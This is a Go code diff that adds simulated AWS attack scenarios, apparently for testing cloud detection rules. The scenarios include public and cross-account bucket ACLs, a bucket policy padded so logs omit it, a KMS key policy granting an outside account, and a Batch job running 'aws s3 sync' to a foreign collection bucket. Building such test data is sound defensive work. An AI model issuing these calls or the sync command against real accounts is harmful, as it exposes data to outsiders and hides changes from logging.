@@ -189,5 +189,79 @@ func storageScenarios() []Scenario {
 				}
 			},
 		},
+		{
+			Name: "bucket-acl-public", Techniques: []string{"T1530"}, Outcome: "exposed",
+			Summary: "The access control list of a bucket admits everyone.",
+			Finds:   "PutBucketAcl with the canned list public-read",
+			as:      byScript("static-site"),
+			play: func(p *plot) []act {
+				p.fix("$bucket", p.bucket())
+				p.to("everyone")
+				return []act{
+					{call: "s3.GetBucketAcl"},
+					{at: 2 * minute, call: "s3.PutBucketAcl", evidence: true, request: `{"x-amz-acl":"public-read",` + bucketHost + `,"acl":""}`},
+				}
+			},
+		},
+		{
+			Name: "bucket-acl-foreign", Techniques: []string{"T1530"}, Outcome: "exposed",
+			Summary: "The access control list of a bucket admits a canonical user of another account.",
+			Finds:   "PutBucketAcl that grants to an ID other than the owner's",
+			as:      byUser("legacy-ftp"),
+			play: func(p *plot) []act {
+				p.fix("$bucket", p.bucket())
+				const owner = "75a9ff5b7a5e0b2d1c3e4f60718293a4b5c6d7e8f9010203040506070809ab1c"
+				friend := p.to(string(appendHex(appendHex(appendHex(appendHex(nil, p.dice.uint64(), 16), p.dice.uint64(), 16), p.dice.uint64(), 16), p.dice.uint64(), 16)))
+				grant := func(id, permission string) string {
+					return `{"Grantee":{"xmlns:xsi":"http://www.w3.org/2001/XMLSchema-instance","xsi:type":"CanonicalUser","ID":"` + id + `"},"Permission":"` + permission + `"}`
+				}
+				return []act{
+					{call: "s3.GetBucketAcl"},
+					{at: 2 * minute, call: "s3.PutBucketAcl", evidence: true, request: `{` + bucketHost + `,"AccessControlPolicy":{"xmlns":"http://s3.amazonaws.com/doc/2006-03-01/","AccessControlList":{"Grant":[` + grant(owner, "FULL_CONTROL") + `,` + grant(friend, "READ") + `]},"Owner":{"ID":"` + owner + `"}},"acl":""}`},
+				}
+			},
+		},
+		{
+			Name: "bucket-policy-padded", Techniques: []string{"T1530", "T1562.008"}, Outcome: "exposed",
+			Summary: "A bucket gets a policy so large that the log leaves it out.",
+			Finds:   "PutBucketPolicy whose requestParameters were omitted",
+			as:      byScript("policy-sync"),
+			play: func(p *plot) []act {
+				p.fix("$bucket", p.bucket())
+				return []act{
+					{call: "s3.GetBucketPolicy"},
+					{at: 2 * minute, call: "s3.PutBucketPolicy", evidence: true, request: `{"reason":"requestParameters too large","omitted":true,"originalSize":104211}`},
+				}
+			},
+		},
+		{
+			Name: "kms-key-policy-foreign", Techniques: exfiltration, Outcome: "exposed",
+			Summary: "The policy of a key admits an outside account.",
+			Finds:   "PutKeyPolicy that allows another account",
+			as:      byRole("KeyAdmin", "judy@example.com", agentTerraform),
+			play: func(p *plot) []act {
+				p.thing("key", p.fix("$cmk", string(appendUUID(nil, p.dice.uint64(), p.dice.uint64()))))
+				const statement = `{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"%s\"},\"Action\":%s,\"Resource\":\"*\"}`
+				policy := fmt.Sprintf(statement, root("$account"), `\"kms:*\"`) + "," + fmt.Sprintf(statement, root(p.stranger()), `[\"kms:Decrypt\",\"kms:DescribeKey\"]`)
+				return append(look("kms.ListKeys"),
+					act{at: 2 * minute, call: "kms.PutKeyPolicy", evidence: true, request: `{` + keyID + `,"policyName":"default","policy":"{\"Version\":\"2012-10-17\",\"Statement\":[` + policy + `]}","bypassPolicyLockoutSafetyCheck":false}`})
+			},
+		},
+		{
+			Name: "batch-job-copies-out", Techniques: []string{"T1119", "T1567"}, Outcome: "exposed",
+			Summary: "A job of AWS Batch copies a bucket to a bucket of another owner.",
+			Finds:   "RegisterJobDefinition and SubmitJob with a command that copies",
+			as:      byUser("hpc-jobs"),
+			play: func(p *plot) []act {
+				p.fix("$bucket", p.bucket())
+				p.to("s3://collect-5d80")
+				const command = `["aws","s3","sync","s3://$bucket","s3://collect-5d80/in"]`
+				return []act{
+					{call: "sts.GetCallerIdentity"},
+					{at: minute, call: "batch.RegisterJobDefinition", evidence: true, request: `{"jobDefinitionName":"nightly-export","type":"container","containerProperties":{"image":"public.ecr.aws/aws-cli/aws-cli:2.17.20","command":` + command + `,"resourceRequirements":[{"type":"VCPU","value":"1"},{"type":"MEMORY","value":"2048"}],"jobRoleArn":"arn:aws:iam::$account:role/batch"}}`},
+					{at: 2 * minute, call: "batch.SubmitJob", evidence: true, request: `{"jobName":"nightly-export","jobQueue":"default","jobDefinition":"nightly-export:1","containerOverrides":{"command":` + command + `}}`},
+				}
+			},
+		},
 	}
 }
